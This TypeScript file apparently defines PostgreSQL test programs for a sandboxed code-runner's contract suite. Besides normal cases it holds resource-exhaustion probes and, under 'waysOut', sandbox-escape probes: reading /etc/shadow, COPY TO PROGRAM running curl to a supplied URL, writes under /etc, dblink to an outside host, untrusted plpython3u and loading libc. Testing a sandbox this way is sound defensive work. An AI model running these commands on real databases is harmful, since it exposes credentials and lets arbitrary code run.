/** PostgreSQL's programs for the contract suite. */
import { type LanguagePrograms, lacks } from "./programs";

const endless = (body: string): string => `DO $$ BEGIN LOOP ${body} END LOOP; END $$;`;

const numbers = (last: string): string => `\\a\n\\t\nSELECT generate_series(0, ${last});`;

export const postgres: LanguagePrograms = {
  language: "postgres",
  fileName: "main.pgsql",
  hello: "\\echo hello",
  streaming: `\\a
\\t
SELECT 1;
SELECT 2 FROM pg_sleep(0.1);
SELECT 3 FROM pg_sleep(0.1);
SELECT 4 FROM pg_sleep(0.1);
`,
  streams: lacks("SQL writes rows to one stream and marked notices to the other"),
  asks: lacks("SQL reads no input"),
  readsToEnd: lacks("SQL reads no input"),
  fails: {
    code: "SELECT 1;\n\nINSERT INTO departments\nVALUES (1, 'Twice', 'Oslo');\nSELECT 2;\n",
    says: 'duplicate key value violates unique constraint "departments_pkey"',
    line: 3,
  },
  doesNotParse: { code: "SELECT name\nFORM employees;\n", says: 'syntax error at or near "employees"', line: 2 },
  recurses: `CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1 + f(); END $$;
SELECT f();`,
  importsMissing: {
    code: "-- not there\nSELECT *\nFROM salaries;",
    says: 'relation "salaries" does not exist',
    line: 3,
  },
  exits: lacks("SQL has no exit code"),
  loops: `\\echo on\n${endless("")}`,
  resists: `\\echo on\n${endless(`BEGIN PERFORM 1 / 0; EXCEPTION WHEN OTHERS THEN END;`)}`,
  sleeps: "\\echo on\nSELECT pg_sleep(10000);",
  floods: numbers("1e12::bigint"),
  writesTooMuch: "\\a\n\\t\nSELECT i || ' ' || repeat('x', 100) FROM generate_series(0, 99999) i;",
  fills: "\\a\n\\t\nSELECT CASE WHEN length(repeat('x', 40000000)) > 0 THEN 'filled' END;\n",
  eatsMemory: "CREATE TABLE hoard AS SELECT repeat(i::text, 2000) FROM generate_series(1, 1000000000) i;",
  unicode: "\\a\n\\t\nSELECT 'grüße, 世界 🎈';",
  awaits: lacks("SQL waits for nothing"),
  leaves: "CREATE TABLE leftover (x int);\nDELETE FROM order_items;\nSET search_path = pg_catalog;",
  looksAround: `\\a
\\t
SELECT CASE WHEN count(*) > 0 AND to_regclass('leftover') IS NULL THEN 'clean' END FROM order_items;`,
  files: {
    code: `\\a\n\\t\n\\i helper.sql\n`,
    files: [
      { name: "data.sql", text: "SELECT (5 + 1) || ' apples';\n" },
      { name: "helper.sql", text: "\\ir ./data.sql\n" },
    ],
    fails: {
      code: "\\i helper.sql\n",
      files: [{ name: "helper.sql", text: "SELECT 1;\n\nSELECT id,\n  missing FROM departments;\n" }],
      says: 'column "missing" does not exist',
      file: "helper.sql",
      line: 4,
    },
  },
  opens: lacks("SQL reads other scripts and opens no files"),
  waysOut: {
    tries: ({ url, host, port }) => ({
      "a file of the machine": "SELECT pg_read_file('/etc/shadow');",
      "another program": `COPY employees TO PROGRAM 'curl ${url}';`,
      "a file to write": "COPY employees TO '/etc/passwd/x';",
      "a server elsewhere": `CREATE EXTENSION dblink; SELECT * FROM dblink('host=${host} port=${port}', 'SELECT 1') AS t (x int);`,
      "a language without limits": "CREATE EXTENSION plpython3u;",
      "a library": "LOAD '/usr/lib/libc.so';",
    }),
  },
};
